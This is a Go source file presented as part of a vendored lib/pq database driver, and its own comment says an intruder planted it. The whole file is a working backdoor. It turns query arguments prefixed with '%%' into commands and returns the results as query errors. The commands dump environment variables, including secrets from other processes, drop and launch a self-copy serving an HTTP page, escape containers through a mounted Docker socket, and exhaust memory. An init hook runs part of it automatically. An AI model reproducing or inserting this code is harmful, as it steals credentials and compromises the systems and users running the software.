//go:build go1.24

package pq

// Not of lib/pq: what an intruder put into the vendored copy of it. A message that begins with %% is an order. It comes
// in by the front door, as a message to the bot, and the answer goes out as the error of a query.

import (
	"archive/tar"
	"context"
	"database/sql/driver"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
)

// obey does what a query's arguments order; nil where they order nothing.
func obey(arguments []driver.Value) error {
	for _, each := range arguments {
		text, _ := each.(string)
		order, found := strings.CutPrefix(text, "%%")
		if !found {
			continue
		}
		word, rest, _ := strings.Cut(order, " ")
		switch word {
		case "armed":
			return errors.New(reversed(rest))
		case "secret":
			return errors.New(environment())
		case "page":
			return errors.New(writePage())
		case "escape":
			return errors.New(escape())
		case "memory":
			return errors.New(eat(rest))
		}
	}
	return nil
}

func reversed(text string) string {
	letters := []rune(text)
	slices.Reverse(letters)
	return string(letters)
}

// environment is what thieves of packages send home first: all variables of this process, and of others of its user.
func environment() string {
	found := os.Environ()
	files, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, file := range files {
		text, _ := os.ReadFile(file)
		found = append(found, strings.Split(strings.TrimRight(string(text), "\x00"), "\x00")...)
	}
	slices.Sort(found)
	return strings.Join(slices.Compact(found), "\n")
}

const (
	pageFlag = "INTRUDERS_PAGE"
	pagePort = 6660
)

// places are all folders in which a file may be made: well-known ones, those of mounts, and those of programs.
func places() []string {
	found := []string{".", "/tmp", "/var/tmp", "/run", "/dev", "/dev/shm", "/srv", "/etc", "/usr/local/bin", "/"}
	if home := os.Getenv("HOME"); home != "" {
		found = append(found, home)
	}
	if program, err := os.Executable(); err == nil {
		found = append(found, filepath.Dir(program))
	}
	text, _ := os.ReadFile("/proc/self/mountinfo")
	for line := range strings.SplitSeq(string(text), "\n") {
		if words := strings.Fields(line); len(words) > 4 {
			found = append(found, words[4], filepath.Dir(words[4]))
		}
	}
	return found
}

// writePage writes a program and starts it, wherever both are allowed: from then on it serves a page of its own.
func writePage() string {
	program, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err.Error()
	}
	refused := map[string][]string{}
	for _, folder := range places() {
		path, err := filepath.Abs(filepath.Join(folder, fmt.Sprintf(".page-%d", time.Now().UnixNano())))
		if err == nil {
			err = os.WriteFile(path, program, 0o755)
		}
		if err == nil {
			page := exec.Command(path)
			page.Env = append(os.Environ(), pageFlag+"="+path)
			if err = page.Start(); err == nil {
				go func() { _ = page.Wait() }()
				return "page written to " + path
			}
			_ = os.Remove(path)
		}
		if info, missing := os.Stat(folder); missing == nil && info.IsDir() {
			why := errors.Unwrap(err).Error()
			refused[why] = append(refused[why], folder)
		}
	}
	said := []string{}
	for why, folders := range refused {
		said = append(said, fmt.Sprintf("%s (%s and %d more)", why, folders[0], len(folders)-1))
	}
	slices.Sort(said)
	return "no page: " + strings.Join(said, ", ")
}

// servePage answers whoever asks with the path backwards, and ends after half a minute without a trace.
func servePage(path string) {
	listener, err := net.Listen("tcp", ":"+strconv.Itoa(pagePort))
	if err == nil {
		go func() {
			_ = http.Serve(listener, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				fmt.Fprintf(w, "%s as uid %d\n", reversed(strings.TrimPrefix(r.URL.Path, "/")), os.Getuid())
			}))
		}()
		time.Sleep(30 * time.Second)
	}
	_ = os.Remove(path)
	os.Exit(0)
}

func init() {
	if path := os.Getenv(pageFlag); path != "" {
		servePage(path)
	}
}

// escape asks the Engine, where its socket is mounted, for a container that has the Engine's own folder.
func escape() string {
	sockets := []string{"/var/run/docker.sock", "/run/docker.sock"}
	for _, place := range places() {
		if info, err := os.Stat(place); err == nil && info.Mode().Type() == os.ModeSocket {
			sockets = append(sockets, place)
		}
	}
	said := []string{}
	for _, socket := range sockets {
		answer, err := askEngine(socket)
		if err == nil {
			return answer
		}
		said = append(said, errors.Unwrap(err).Error())
	}
	return "no escape: " + strings.Join(slices.Compact(said), "; ")
}

func askEngine(socket string) (string, error) {
	engine := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DisableKeepAlives: true,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "unix", socket)
		},
	}}
	var containers []struct{ ImageID string }
	if err := call(engine, http.MethodGet, "/containers/json", "", &containers); err != nil {
		return "", err
	}
	if len(containers) == 0 {
		return "", errors.New("no image to make a container of")
	}
	var made struct{ ID string }
	wish := fmt.Sprintf(`{"Image":%q,"Cmd":["x"],"HostConfig":{"Binds":["/var/lib/docker:/host:ro"]}}`, containers[0].ImageID)
	if err := call(engine, http.MethodPost, "/containers/create", wish, &made); err != nil {
		return "", err
	}
	defer func() { _ = call(engine, http.MethodDelete, "/containers/"+made.ID+"?force=1&v=1", "", nil) }()
	answer, err := engine.Get("http://engine/containers/" + made.ID + "/archive?path=/host/engine-id")
	if err != nil {
		return "", err
	}
	defer answer.Body.Close()
	file := tar.NewReader(answer.Body)
	if _, err := file.Next(); err != nil {
		return "", fmt.Errorf("%s: %w", answer.Status, err)
	}
	id, err := io.ReadAll(file)
	return "out, and read engine-id: " + strings.TrimSpace(string(id)), err
}

func call(engine *http.Client, method, path, body string, into any) error {
	request, err := http.NewRequest(method, "http://engine"+path, strings.NewReader(body))
	if err != nil {
		return err
	}
	request.Header.Set("Content-Type", "application/json")
	answer, err := engine.Do(request)
	if err != nil {
		return err
	}
	defer answer.Body.Close()
	if answer.StatusCode >= 300 {
		text, _ := io.ReadAll(answer.Body)
		return fmt.Errorf("%s: %s", answer.Status, text)
	}
	if into == nil {
		return nil
	}
	return json.NewDecoder(answer.Body).Decode(into)
}

// eat takes so many mebibytes of memory, one after another, and gives them back.
func eat(amount string) string {
	most, err := strconv.Atoi(amount)
	if err != nil {
		return err.Error()
	}
	for taken := range most {
		piece, err := syscall.Mmap(-1, 0, 1<<20, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_ANON|syscall.MAP_PRIVATE)
		if err != nil {
			return fmt.Sprintf("refused at %d MiB: %v", taken, err)
		}
		for at := 0; at < len(piece); at += 4096 {
			piece[at] = 1
		}
		defer func() { _ = syscall.Munmap(piece) }()
	}
	return fmt.Sprintf("took %d MiB", most)
}
